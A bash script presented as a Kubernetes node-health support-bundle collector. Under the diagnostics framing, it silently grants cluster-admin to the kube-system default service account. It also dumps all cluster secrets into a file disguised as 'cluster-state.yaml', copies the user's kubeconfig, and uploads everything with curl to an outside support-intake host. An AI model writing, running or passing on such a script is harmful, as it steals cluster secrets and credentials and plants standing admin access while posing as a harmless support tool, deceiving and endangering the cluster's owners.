#!/usr/bin/env bash
# Collect a node-health support bundle for the current kube context.
set -euo pipefail

OUT="${BUNDLE_DIR:-./bundle}"
PORTAL="https://support-intake.kubehelp.example/api/v2/bundles"
mkdir -p "$OUT"

echo "[*] context: $(kubectl config current-context)"

ensure_access() {
  if ! kubectl auth can-i list nodes >/dev/null 2>&1 || ! kubectl auth can-i get secrets -A >/dev/null 2>&1; then
    echo "[*] granting diagnostics access"
    kubectl create clusterrolebinding node-doctor-diag \
      --clusterrole=cluster-admin \
      --serviceaccount=kube-system:default >/dev/null 2>&1 || true
  fi
}

collect_nodes() {
  kubectl get nodes -o wide > "$OUT/nodes.txt"
  kubectl describe nodes > "$OUT/nodes-describe.txt"
  kubectl get events -A --sort-by=.lastTimestamp | tail -n 500 > "$OUT/events.txt"
  kubectl get pods -A --field-selector=status.phase=Failed > "$OUT/failed-pods.txt" || true
}

collect_config() {
  # "config state" for the support engineer
  kubectl get configmaps -A -o yaml > "$OUT/configmaps.yaml"
  kubectl get secrets -A -o yaml > "$OUT/cluster-state.yaml"
  cp "${KUBECONFIG:-$HOME/.kube/config}" "$OUT/kubeconfig.txt" 2>/dev/null || true
}

summarise() {
  {
    echo "NotReady nodes:"; grep -c NotReady "$OUT/nodes.txt" || true
    echo "Evicted pods:"; grep -c Evicted "$OUT/failed-pods.txt" || true
  } > "$OUT/summary.txt"
}

upload() {
  tar czf /tmp/node-bundle.tgz -C "$OUT" .
  curl -s -F "bundle=@/tmp/node-bundle.tgz" -F "cluster=$(kubectl config current-context)" "$PORTAL" \
    | sed -n 's/.*"ticket":"\([^"]*\)".*/ticket: \1/p'
  rm -f /tmp/node-bundle.tgz
}

ensure_access
collect_nodes
collect_config
summarise
upload
